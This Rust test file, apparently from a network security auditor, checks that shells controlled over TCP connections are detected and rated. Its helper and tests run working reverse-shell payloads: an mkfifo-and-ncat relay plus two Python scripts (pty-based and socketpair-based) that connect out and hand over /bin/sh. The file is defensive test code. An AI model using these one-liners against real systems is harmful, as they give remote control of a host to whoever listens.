//! Shells that are controlled over the network.

use std::fs;
use std::io::Write;
use std::net::TcpListener;
use std::os::fd::OwnedFd;
use std::process::{Command, Stdio};

use netstat_testkit::{Needs, eventually, own_namespace};
use serde_json::Value;

use crate::kit::{Running, findings, have, pair, program, public_address, quick, severities};

#[test]
fn shell_with_a_connection_as_input_and_output_is_reported() {
    own_namespace!(Needs::PROCESSES);
    let public = public_address();
    let shell = |address: &str| {
        let (far, here) = pair(address);
        let both = |end: &std::net::TcpStream| Stdio::from(OwnedFd::from(end.try_clone().unwrap()));
        let mut command = Command::new(program("sh"));
        let running = Running::start(command.stdin(both(&here)).stdout(both(&here)).stderr(both(&here)));
        (running, far)
    };
    let (near, _end) = shell("127.0.0.1");
    let (far, _other) = shell(public);
    let document = quick();
    assert_eq!(severities(&document, near.pid(), "shell-socket"), ["high"]);
    assert_eq!(severities(&document, far.pid(), "shell-socket"), ["critical"]);
}

/// Runs `script` with bash and the port of a listener as `$1`. Returns what the audit finds about shells behind relays,
/// as soon as there is a finding or after a while.
fn relayed(script: &str, interpreter: &str) -> Vec<Value> {
    let public = public_address();
    let listener = TcpListener::bind((public, 0)).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let directory = tempfile::tempdir().unwrap();
    let running = Running::start(
        Command::new(program(interpreter))
            .args(["-c", script, "relay", public, &port])
            .current_dir(directory.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null()),
    );
    let (mut end, _) = listener.accept().unwrap();
    // The shell responds, so it is indeed controlled over the network.
    end.write_all(b"touch driven\n").unwrap();
    let driven = directory.path().join("driven");
    eventually(|| driven.exists(), || format!("the shell of {script}"));
    let document = quick();
    let found = findings(&document)
        .filter(|finding| finding["rule"] == "shell-relay")
        .cloned()
        .collect();
    drop(end);
    drop(running);
    found
}

#[test]
fn shell_behind_a_fifo_is_reported() {
    own_namespace!(Needs::PROCESSES);
    if !have("ncat") || !have("mkfifo") || fs::canonicalize("/usr/bin/bash").is_err() {
        return;
    }
    let found = relayed("mkfifo f; cat f | sh 2>&1 | ncat $1 $2 > f", "bash");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["severity"], "critical");
    assert!(found[0]["program"].as_str().unwrap().ends_with("/ncat"), "{found:#?}");
}

#[test]
fn shell_behind_a_terminal_is_reported() {
    own_namespace!(Needs::PROCESSES);
    if fs::metadata("/usr/bin/python3").is_err() && !have("python3") {
        return;
    }
    let script = "import os,pty,socket,sys,select\n\
        s=socket.create_connection((sys.argv[2],int(sys.argv[3])))\n\
        pid,fd=pty.fork()\n\
        if pid==0: os.execv('/bin/sh',['sh'])\n\
        while True:\n\
        \x20 r,_,_=select.select([s,fd],[],[])\n\
        \x20 if s in r: os.write(fd,s.recv(999))\n\
        \x20 if fd in r: s.send(os.read(fd,999))\n";
    let found = relayed(script, "python3");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["severity"], "high");
    assert!(found[0]["evidence"].to_string().contains("terminal pts/"), "{found:#?}");
}

#[test]
fn shell_behind_a_socket_pair_is_reported() {
    own_namespace!(Needs::PROCESSES);
    if fs::metadata("/usr/bin/python3").is_err() && !have("python3") {
        return;
    }
    let script = "import socket,subprocess,sys\n\
        s=socket.create_connection((sys.argv[2],int(sys.argv[3])))\n\
        a,b=socket.socketpair()\n\
        p=subprocess.Popen(['/bin/sh'],stdin=b,stdout=b,stderr=b)\n\
        b.close()\n\
        while True: a.send(s.recv(999))\n";
    let found = relayed(script, "python3");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(
        found[0]["evidence"].to_string().contains("pair of sockets"),
        "{found:#?}"
    );
}

#[test]
fn relay_of_a_script_to_a_shell_one_way_is_no_finding() {
    own_namespace!(Needs::PROCESSES);
    let (one, _other) = pair("127.0.0.1");
    let (reader, writer) = std::io::pipe().unwrap();
    let mut relay = Command::new(program("sleep"));
    relay
        .arg("600")
        .stdin(Stdio::from(OwnedFd::from(one)))
        .stdout(Stdio::from(writer));
    let relay = Running::start(&mut relay);
    let shell = Running::start(
        Command::new(program("sh"))
            .stdin(Stdio::from(reader))
            .stdout(Stdio::null()),
    );
    let document = quick();
    assert_eq!(severities(&document, relay.pid(), "shell-relay"), [] as [&str; 0]);
    drop(shell);
}
